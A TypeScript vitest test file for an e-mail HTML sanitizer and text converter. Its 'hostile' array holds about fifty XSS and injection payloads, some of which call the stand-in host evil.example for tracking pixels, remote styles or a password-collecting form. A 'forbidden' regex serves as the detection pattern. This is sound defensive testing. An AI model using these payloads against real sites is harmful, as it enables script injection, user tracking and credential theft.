import { describe, expect, test } from 'vitest'
import { htmlToText } from './html-text.ts'
import { htmlForView } from './html-view.ts'
import type { MailPart } from './reading.ts'

const part = (contentId: string, type: string, bytes: Uint8Array): MailPart => ({
  name: 'x',
  type,
  bytes,
  contentId,
  isInline: true,
})

/** Attempts to run, to load, to lead away or to look like something else. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 2x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="cid:unknown">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:url(//evil.example/x)">x</p>',
  '<p style="background-color:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;z-index:9999">x</p>',
  '<p style="font-family:x;behavior:url(x.htc)">x</p>',
  '<p style="font-family:\'x\\";background:url(https://evil.example/x)\'">x</p>',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
  '<body background="https://evil.example/x" onload=alert(1)>x</body>',
  '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>',
  '<audio src="https://evil.example/x"></audio>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<b onclick=alert(1) id=x name=y class=z>x</b>',
  '<a href="https://ok.example" onclick=alert(1) target=_top ping="https://evil.example">x</a>',
  '<p title="\'><img src=x onerror=alert(1)>">x</p>',
  '<input type=image src=https://evil.example/x>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
]

/** What must not be in anything that is shown. */
const forbidden =
  /<(?:script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|video|audio|template|textarea|noscript|xmp)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:text|data:image\/svg|url\(|expression\(|@import|position\s*:|behavior|\ssrc="(?!data:image\/(?:png|jpeg|gif|webp);base64,)|srcset|background=|poster=|ping=|\s(?:id|name|class)=/i

describe('the HTML of an e-mail as an agent sees it', () => {
  test.each(hostile)('runs, loads and imitates nothing: %s', (html) => {
    const shown = htmlForView(`<p>before</p>${html}<p>after</p>`, [])
    expect(shown.replace(/>[^<]*</g, '><').replace(/title="[^"]*"/g, '')).not.toMatch(forbidden)
    expect(shown).toContain('before')
  })

  test('shows links that say where they lead and open elsewhere', () => {
    const link = '<a href="https://ok.example/a" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    expect(htmlForView('<a href="https://ok.example/a" target=_top>x</a>', [])).toBe(
      link.replace(
        ' target="_blank" rel="noopener noreferrer nofollow"',
        ' target="_blank" rel="noopener noreferrer nofollow"',
      ),
    )
  })

  test('has its own pictures in it, of safe types and up to a megabyte', () => {
    const parts = [
      part('one@x', 'image/png', Buffer.from('a')),
      part('two@x', 'image/svg+xml', Buffer.from('b')),
      part('big@x', 'image/png', Buffer.alloc(1_100_000)),
    ]
    const html = '<img src="cid:One%40x" alt="1"><img src="cid:two@x" alt="2"><img src="cid:big@x" alt="3">'
    const shown = htmlForView(html, parts)
    expect(shown).toContain(`src="data:image/png;base64,${Buffer.from('a').toString('base64')}"`)
    expect(shown.match(/<img/g)).toHaveLength(1)
    expect(shown).toContain('2')
  })

  test('keeps how it was laid out', () => {
    const html =
      '<table width="600"><tr><td bgcolor="#eee" style="padding: 8px; color: #333">x</td></tr></table>'
    expect(htmlForView(html, [])).toContain('<td bgcolor="#eee" style="padding:8px;color:#333">x</td>')
  })

  test('takes no time and no depth, whatever it is', () => {
    const begun = Date.now()
    for (const piece of [
      '<div>',
      '<b><i>',
      '<a href=',
      '<table><tr><td>',
      '<!--',
      '&lt;',
      '<font color=red>',
      '<blockquote>',
      '"\'<',
    ]) {
      htmlForView(piece.repeat(100_000), [])
      htmlToText(piece.repeat(100_000))
    }
    expect(Date.now() - begun).toBeLessThan(20_000)
  }, 30_000)
})

describe('the words of an HTML e-mail', () => {
  test.each([
    ['<p>One</p><p>Two</p>', 'One\n\nTwo'],
    ['One<br>Two<br/>', 'One\nTwo'],
    ['<ul><li>a</li><li>b</li></ul>', ' * a\n * b'],
    ['<p>My</p><blockquote><p>Theirs</p></blockquote>', 'My\n\n> Theirs'],
    ['<a href="https://x.example/a">here</a>', 'here <https://x.example/a>'],
    ['<a href="https://x.example/a">https://x.example/a</a>', 'https://x.example/a'],
    ['<h1>Title</h1>text', 'Title\n\ntext'],
    ['a&nbsp;b &amp; c &lt;d&gt;', 'a b & c <d>'],
    ['<img src="https://evil.example/x" alt="logo">text', 'text'],
    ['<style>p{color:red}</style><script>x</script><title>t</title>text', 'text'],
  ])('%s', (html, text) => expect(htmlToText(html)).toBe(text.trim()))

  test('take no time with a row of blanks that no line ends', () => {
    const begun = Date.now()
    for (const blank of ['\u00a0', '&nbsp;', '\t', ' '])
      expect(htmlToText(`<pre>a${blank.repeat(160_000)}b</pre>`)).toMatch(/^a\s+b$/)
    expect(Date.now() - begun).toBeLessThan(5_000)
  })

  test.each(hostile)('are no more than words: %s', (html) => {
    expect(htmlToText(`<p>before</p>${html}<p>after</p>`)).toContain('before')
  })
})
